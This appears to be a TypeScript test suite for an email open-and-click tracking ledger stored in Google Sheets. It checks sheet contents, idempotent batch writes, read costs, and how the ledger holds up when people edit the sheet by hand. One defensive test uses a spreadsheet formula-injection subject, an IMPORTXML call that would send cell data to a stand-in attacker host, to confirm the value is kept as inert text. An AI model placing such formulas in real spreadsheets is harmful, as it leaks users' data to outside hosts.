import { ledgerContract } from '../contracts/ledger';
import { Problem } from '../../src/core/problem';
import type { SpreadsheetsApi } from '../../src/google/spreadsheetsApi';
import type { Ledger } from '../../src/ports';
import {
  apply,
  ask,
  batchOf,
  columns,
  ledgerOnSheets,
  news,
  rows,
  TAB,
  withThree,
} from '../support/ledgerOnSheets';
import {
  aClick,
  anOpen,
  aReport,
  DAY,
  hitOf,
  HOUR,
  MINUTE,
  messageId,
  reportOf,
  SENT_AT,
} from '../support/tracked';

type Filter = GoogleAppsScript.Sheets.Schema.GetSpreadsheetByDataFilterRequest;

const OPEN = hitOf(anOpen());
const CLICK = [hitOf(aClick()), reportOf(aReport({ pressed: true }))];

function problemOf(work: () => unknown): string {
  try {
    work();
  } catch (error) {
    return error instanceof Problem ? error.code : String(error);
  }
  return 'none';
}

const read = (ledger: Ledger, ...names: readonly string[]) =>
  ledger
    .read(names.map((name, index) => ask(name, index + 1)))
    .map(({ state, row }) => [state.sent?.subject, row]);

ledgerContract('the Sheets API', () => {
  const office = ledgerOnSheets();
  const { store, api, id, open, tab } = office;
  let order: 'ascending' | 'descending' = 'ascending';
  const texts = (sheetId: number) => tab(sheetId).rows.map(({ cells }) => cells.map(({ text }) => text));
  return {
    open: () => open(),
    events: () => {
      const [header = [], ...lines] = texts(TAB.events);
      const [event, revision] = [header.indexOf('event'), header.indexOf('Revision')];
      return lines
        .filter((line) => line[event] !== '')
        .map((line) => ({ id: line[event] ?? '', revision: Number(line[revision]) }));
    },
    sortByHand: () => {
      order = order === 'ascending' ? 'descending' : 'ascending';
      store.sort(id, TAB.messages, 1, order);
    },
    deleteRow: (message) => {
      const row = texts(TAB.messages).findIndex((line) => line.includes(message));
      apply(api, id, { deleteDimension: { range: rows(TAB.messages, row, row + 1) } });
    },
    lose: () => {
      store.remove(id);
    },
  };
});

describe('the tracking Sheet, written', () => {
  it('says in words how each message stands', () => {
    const { open, seen } = ledgerOnSheets();
    open().write(batchOf(1, news('a', { more: [OPEN, ...CLICK] }), news('b')));
    expect(seen(TAB.messages)).toEqual([
      [
        'Sent',
        'Subject',
        'To',
        'Status',
        'Opens (at least)',
        'First opened',
        'Last opened',
        'Clicks',
        'First click',
        'Sender',
      ],
      [
        '2 Nov 2026 10:05',
        'Offer a',
        'rita@example.org',
        '✓✓ clicked',
        '1',
        '2 Nov 2026 11:05',
        '2 Nov 2026 11:05',
        '1',
        '2 Nov 2026 12:05',
        'sam@example.com',
      ],
      ['2 Nov 2026 10:05', 'Offer b', 'rita@example.org', '✓ sent', '0', '', '', '0', '', 'sam@example.com'],
    ]);
  });

  it('says of each event what, who and why', () => {
    const { open, seen } = ledgerOnSheets();
    open().write(batchOf(1, news('a', { more: [OPEN, ...CLICK] })));
    expect(seen(TAB.events).slice(1)).toEqual([
      [
        '2 Nov 2026 11:05',
        'Offer a',
        'rita@example.org',
        'opened',
        'a person',
        'Loaded 1 h after sending, when programs seldom do.',
        '',
        '',
        '1',
      ],
      [
        '2 Nov 2026 12:05',
        'Offer a',
        'rita@example.org',
        'clicked',
        'a person, verified',
        'The link was pressed on our page: the surest sign of a person.',
        'https://example.org/offer',
        'computer',
        '1',
      ],
    ]);
  });

  it('keeps a subject that looks like a formula as text, whole and harmless', () => {
    const { open, seen, api, id } = ledgerOnSheets();
    const subject = '=IMPORTXML("https://evil.example/?"&B1;"//a")';
    open().write(batchOf(1, news('a', { subject })));
    expect(seen(TAB.messages)[1]?.[1]).toBe(subject);
    const { sheets = [] } = api.get(id, { fields: 'sheets(data(rowData(values(userEnteredValue))))' });
    expect(JSON.stringify(sheets)).not.toContain('formulaValue');
  });

  it('counts on Overview and says on Health when it was written', () => {
    const { open, seen } = withThree();
    const ledger = open();
    const [a, b] = ledger.read([ask('a', 1), ask('b', 2)]);
    ledger.write(batchOf(2, news('a', { before: a!, more: [OPEN] }), news('b', { before: b!, more: CLICK })));
    expect(
      seen(TAB.overview)
        .slice(1)
        .map(([word, value]) => [word, value]),
    ).toEqual([
      ['Messages followed', '3'],
      ['Opened', '2'],
      ['Link clicked', '1'],
      ['Waiting', '1'],
      ['Last news', '3 Nov 2026 10:05'],
    ]);
    expect(
      seen(TAB.health)
        .slice(1)
        .map(([word, value]) => [word, value]),
    ).toEqual([
      ['Last written', '3 Nov 2026 10:05'],
      ['Times written', '2'],
      ['Messages', '3'],
      ['Events', '3'],
    ]);
  });

  it('tells in which rows the messages stand', () => {
    const ledger = ledgerOnSheets().open();
    expect(ledger.write(batchOf(1, news('a'), news('b')))).toEqual({
      kind: 'written',
      rows: { [messageId('a')]: 1, [messageId('b')]: 2 },
    });
    const [a] = ledger.read([ask('a', 1)]);
    expect(ledger.write(batchOf(2, news('c'), news('a', { before: a!, more: [OPEN] })))).toEqual({
      kind: 'written',
      rows: { [messageId('a')]: 1, [messageId('c')]: 3 },
    });
  });

  it('shows times in its own time zone, also after the owner changed that', () => {
    const { open, api, id, seen } = ledgerOnSheets({ timeZone: 'America/New_York' });
    open().write(batchOf(1, news('a')));
    api.batchUpdate(
      {
        requests: [
          { updateSpreadsheetProperties: { properties: { timeZone: 'Asia/Tokyo' }, fields: 'timeZone' } },
        ],
      },
      id,
    );
    open().write(batchOf(2, news('b')));
    expect(
      seen(TAB.messages)
        .slice(1)
        .map(([time]) => time),
    ).toEqual(['2 Nov 2026 04:05', '2 Nov 2026 18:05']);
  });

  it('says of a message not seen among sent mail that it is not sent yet', () => {
    const { open, seen } = ledgerOnSheets();
    const { row } = news('a');
    open().write({
      number: 1,
      messages: [{ ...row, state: { ...row.state, sent: null } }],
      events: [],
      at: SENT_AT,
    });
    expect(seen(TAB.messages)[1]?.slice(0, 4)).toEqual(['', '', '', 'not sent yet']);
  });
});

describe('a batch', () => {
  it('is written once, whoever tries it again, and the look before it is enough to know', () => {
    const { open, seen, store } = withThree();
    const [before, { writes }] = [seen(TAB.messages), { ...store.meter }];
    expect(open().write(batchOf(1, news('d')))).toEqual({ kind: 'already-written' });
    expect(seen(TAB.messages)).toEqual(before);
    expect(store.meter.writes).toBe(writes);
  });

  it('is not written under a number lower than the last', () => {
    const { open, seen } = withThree();
    open().write(batchOf(5, news('d')));
    expect(open().write(batchOf(4, news('e')))).toEqual({ kind: 'already-written' });
    expect(seen(TAB.messages)).toHaveLength(5);
  });

  it('is written once, even if a second pass looked before the first had written', () => {
    const { open, seen } = withThree();
    const [one, other] = [open(), open()];
    one.read([]);
    other.read([]);
    expect(one.write(batchOf(2, news('d'))).kind).toBe('written');
    expect(other.write(batchOf(2, news('d'))).kind).toBe('already-written');
    expect(seen(TAB.messages)).toHaveLength(5);
  });

  it('is one request that writes, besides one that reads', () => {
    const { open, store } = withThree();
    const ledger = open();
    const before = { ...store.meter };
    const found = ledger.read([ask('a', 1), ask('b', 2), ask('c', 3)]);
    ledger.write(
      batchOf(
        2,
        news('d'),
        ...found.map((row, index) => news('abc'.charAt(index), { before: row, more: [OPEN] })),
      ),
    );
    expect(store.meter.reads - before.reads).toBe(1);
    expect(store.meter.writes - before.writes).toBe(1);
  });

  it('leaves only one mark behind, for their room is limited', () => {
    const { open, api, id, clock } = ledgerOnSheets();
    for (let number = 1; number <= 30; number += 1) {
      clock.at += MINUTE;
      open().write(batchOf(number, news(String(number))));
    }
    expect(
      api.get(id, { fields: 'developerMetadata' }).developerMetadata?.map(({ metadataId }) => metadataId),
    ).toEqual([30]);
  });

  it('finds the mark of the last one even if answers by filter should leave it out', () => {
    const office = ledgerOnSheets();
    const silent: SpreadsheetsApi = {
      create: office.api.create,
      get: office.api.get,
      batchUpdate: office.api.batchUpdate,
      getByDataFilter: (resource: Filter, id: string, options: object = {}) => ({
        ...office.api.getByDataFilter(resource, id, options),
        developerMetadata: [],
      }),
    };
    for (const number of [1, 2, 3]) office.open(silent).write(batchOf(number, news(String(number))));
    expect(office.open(silent).write(batchOf(3, news('again'))).kind).toBe('already-written');
    expect(office.api.get(office.id, { fields: 'developerMetadata' }).developerMetadata).toHaveLength(1);
    expect(office.seen(TAB.overview)[1]).toEqual(['Messages followed', '3', 'sent with tracking']);
  });

  it('leaves what Google refused for other reasons to its caller', () => {
    const { open, api, store, id } = withThree();
    const ledger = open();
    ledger.read([]);
    while (store.meter.writes < 60)
      api.batchUpdate({ requests: [{ appendCells: { sheetId: TAB.readMe, rows: [], fields: '*' } }] }, id);
    expect(problemOf(() => ledger.write(batchOf(2, news('d'))))).toMatch(/Quota exceeded/);
  });
});

describe('reading messages', () => {
  it('takes one call and as many cells whether the Sheet holds three messages or three hundred', () => {
    const cost = (count: number) => {
      const { open, store } = ledgerOnSheets();
      open().write(batchOf(1, ...Array.from({ length: count }, (_, index) => news(`n${index}`))));
      const before = { ...store.meter };
      expect(open().read([ask('n1', 2), ask('n2', 3)])).toHaveLength(2);
      return { calls: store.meter.reads - before.reads, cells: store.meter.cellsRead - before.cellsRead };
    };
    expect(cost(3)).toEqual(cost(300));
    expect(cost(3).calls).toBe(1);
  });

  it('checks ids, and finds by them what stands elsewhere', () => {
    const { open, store } = withThree();
    const before = store.meter.reads;
    expect(
      open()
        .read([ask('a', 2), ask('b', 2), ask('c', null)])
        .map(({ row }) => row)
        .sort(),
    ).toEqual([1, 2, 3]);
    expect(store.meter.reads - before).toBeLessThanOrEqual(3);
  });

  it('finds them when a hint points below the last row', () => {
    expect(
      withThree()
        .open()
        .read([ask('a', 4_000)]),
    ).toMatchObject([{ row: 1 }]);
  });

  it('answers nothing for a message that it does not hold, with one call if nobody hinted at a row', () => {
    const { open, store } = withThree();
    const before = store.meter.reads;
    expect(open().read([ask('x')])).toEqual([]);
    expect(store.meter.reads - before).toBe(1);
    expect(open().read([ask('x', 2)])).toEqual([]);
  });

  it('gives back the state that was written', () => {
    const { open } = ledgerOnSheets();
    const { row, events } = news('a', { more: [OPEN, ...CLICK] });
    open().write({ number: 1, messages: [row], events, at: SENT_AT });
    expect(open().read([ask('a', 1)])).toEqual([{ state: row.state, row: 1 }]);
  });
});

describe('what people do to the Sheet', () => {
  it.each<[string, (office: ReturnType<typeof withThree>) => void]>([
    [
      'sorting',
      ({ store, id }) => {
        store.sort(id, TAB.messages, 1, 'descending');
      },
    ],
    [
      'renaming tabs',
      ({ api, id }) => {
        rename(api, id, TAB.messages, "Ada's 'mail'!");
      },
    ],
    [
      'renaming columns',
      ({ store, id }) => {
        for (let column = 0; column < 10; column += 1) store.type(id, TAB.messages, 0, column, 'My word');
      },
    ],
    [
      'reordering tabs',
      ({ api, id }) => {
        apply(api, id, {
          updateSheetProperties: { properties: { sheetId: TAB.messages, index: 4 }, fields: 'index' },
        });
      },
    ],
    [
      'inserting a column',
      ({ api, id }) => {
        apply(api, id, { insertDimension: { range: columns(TAB.messages, 3, 4) } });
      },
    ],
    [
      'moving the hidden columns about',
      ({ api, id }) => {
        apply(api, id, { moveDimension: { source: columns(TAB.messages, 16, 17), destinationIndex: 0 } });
      },
    ],
    [
      'deleting a column that only people need',
      ({ api, id }) => {
        apply(api, id, { deleteDimension: { range: columns(TAB.messages, 4, 7) } });
      },
    ],
    [
      'putting lines above',
      ({ api, id }) => {
        apply(api, id, { insertDimension: { range: rows(TAB.messages, 0, 2) } });
      },
    ],
    [
      'putting a line of their own in between',
      ({ store, api, id }) => {
        apply(api, id, { insertDimension: { range: rows(TAB.messages, 2, 3) } });
        store.type(id, TAB.messages, 2, 1, 'a heading of my own');
      },
    ],
    [
      'deleting tabs that only people need',
      ({ api, id }) => {
        for (const sheetId of [TAB.overview, TAB.health, TAB.readMe])
          apply(api, id, { deleteSheet: { sheetId } });
      },
    ],
    [
      'deleting the Events tab',
      ({ api, id }) => {
        apply(api, id, { deleteSheet: { sheetId: TAB.events } });
      },
    ],
  ])('%s stops nothing', (_, byHand) => {
    const office = withThree();
    byHand(office);
    const ledger = office.open();
    const found = ledger.read([ask('a', 1), ask('b', 2), ask('c', 3)]);
    const b = found.find(({ state }) => state.message === messageId('b'))!;
    expect(
      read(ledger, 'a', 'b', 'c')
        .map(([subject]) => subject)
        .sort(),
    ).toEqual(['Offer a', 'Offer b', 'Offer c']);
    const written = ledger.write(batchOf(2, news('b', { before: b, more: [OPEN] }), news('d')));
    expect(written).toMatchObject({ kind: 'written', rows: { [messageId('b')]: b.row } });
    const again = office.open().read(['a', 'b', 'c', 'd'].map((name) => ask(name)));
    expect(again.map(({ state }) => [state.sent?.subject, state.mark]).sort()).toEqual([
      ['Offer a', 'sent'],
      ['Offer b', 'opened'],
      ['Offer c', 'sent'],
      ['Offer d', 'sent'],
    ]);
    for (const { state, row } of again) {
      const line = office.tab(TAB.messages).rows[row!]?.cells.map(({ text }) => text) ?? [];
      expect(line).toContain(state.sent?.subject);
      expect(line).toContain(state.mark === 'opened' ? '✓✓ opened' : '✓ sent');
    }
  });

  it('leaves people’s own columns, notes and colours alone', () => {
    const { open, api, store, id, tab } = withThree();
    apply(api, id, { insertDimension: { range: columns(TAB.messages, 3, 4) } });
    store.type(id, TAB.messages, 1, 3, 'call her');
    apply(api, id, {
      repeatCell: {
        range: { sheetId: TAB.messages, startRowIndex: 1, endRowIndex: 2 },
        cell: { userEnteredFormat: { backgroundColorStyle: { rgbColor: { red: 1 } } } },
        fields: 'userEnteredFormat.backgroundColorStyle',
      },
    });
    const ledger = open();
    ledger.write(batchOf(2, news('a', { before: ledger.read([ask('a', 1)])[0]!, more: [OPEN] })));
    const cells = tab(TAB.messages).rows[1]?.cells;
    expect(cells?.[3]?.text).toBe('call her');
    expect(cells?.[1]).toMatchObject({
      text: 'Offer a',
      style: expect.stringContaining('rgb(255,0,0)') as string,
    });
    expect(cells?.[4]?.text).toBe('✓✓ opened');
  });

  it('counts where rows are added right, after people deleted some', () => {
    const { open, api, id } = withThree();
    apply(api, id, { deleteDimension: { range: rows(TAB.messages, 1, 3) } });
    expect(open().write(batchOf(2, news('d')))).toEqual({ kind: 'written', rows: { [messageId('d')]: 2 } });
  });
});

describe('a Sheet that is no more', () => {
  it.each<[string, (office: ReturnType<typeof withThree>) => void]>([
    [
      'deleted',
      ({ store, id }) => {
        store.remove(id);
      },
    ],
    [
      'without the Messages tab',
      ({ api, id }) => {
        apply(api, id, { deleteSheet: { sheetId: TAB.messages } });
      },
    ],
    [
      'without its hidden columns',
      ({ api, id }) => {
        apply(api, id, { deleteDimension: { range: columns(TAB.messages, 10, 17) } });
      },
    ],
    [
      'without its first line',
      ({ api, id }) => {
        apply(api, id, { deleteDimension: { range: rows(TAB.messages, 0, 1) } });
      },
    ],
  ])('%s, is a problem that says what to do', (_, byHand) => {
    const office = withThree();
    byHand(office);
    expect(problemOf(() => office.open().read([ask('a', 1)]))).toBe('LEDGER_MISSING');
    expect(problemOf(() => office.open().read([ask('a')]))).toBe('LEDGER_MISSING');
    expect(problemOf(() => office.open().write(batchOf(2, news('d'))))).toBe('LEDGER_MISSING');
  });

  it('is noticed when it goes between look and batch, too', () => {
    const { open, store, id } = withThree();
    const ledger = open();
    ledger.read([]);
    store.remove(id);
    expect(problemOf(() => ledger.write(batchOf(2, news('d'))))).toBe('LEDGER_MISSING');
  });
});

describe('changes of marks', () => {
  it('are those of one sender after an instant, oldest first, with at most two reads', () => {
    const { open, store } = ledgerOnSheets();
    const at = (hours: number) => SENT_AT + DAY + hours * HOUR;
    open().write(
      batchOf(
        1,
        news('late', { more: [OPEN], now: at(3) }),
        news('early', { more: CLICK, now: at(1) }),
        news('other', { more: [OPEN], now: at(2), sender: 'tom@example.com' }),
        news('before', { more: [OPEN], now: at(-5) }),
      ),
    );
    const before = store.meter.reads;
    expect(open().changesSince('sam@example.com', at(0))).toEqual([
      {
        message: messageId('early'),
        sender: 'sam@example.com',
        gmailMessage: 'mail-early',
        gmailThread: 'thread-early',
        mark: 'clicked',
        at: at(1),
      },
      {
        message: messageId('late'),
        sender: 'sam@example.com',
        gmailMessage: 'mail-late',
        gmailThread: 'thread-late',
        mark: 'opened',
        at: at(3),
      },
    ]);
    expect(store.meter.reads - before).toBeLessThanOrEqual(2);
  });
});

describe('finding one message', () => {
  it('answers its sender with at most two reads, and nobody else', () => {
    const { open, store } = withThree();
    const before = store.meter.reads;
    expect(open().find('sam@example.com', messageId('b'), null)).toMatchObject({
      sent: { subject: 'Offer b' },
    });
    expect(store.meter.reads - before).toBeLessThanOrEqual(2);
    expect(open().find('tom@example.com', messageId('b'), null)).toBeNull();
    expect(open().find('sam@example.com', messageId('x'), null)).toBeNull();
  });
});

type Api = ReturnType<typeof ledgerOnSheets>['api'];
const rename = (api: Api, id: string, sheetId: number, title: string): void => {
  apply(api, id, { updateSheetProperties: { properties: { sheetId, title }, fields: 'title' } });
};
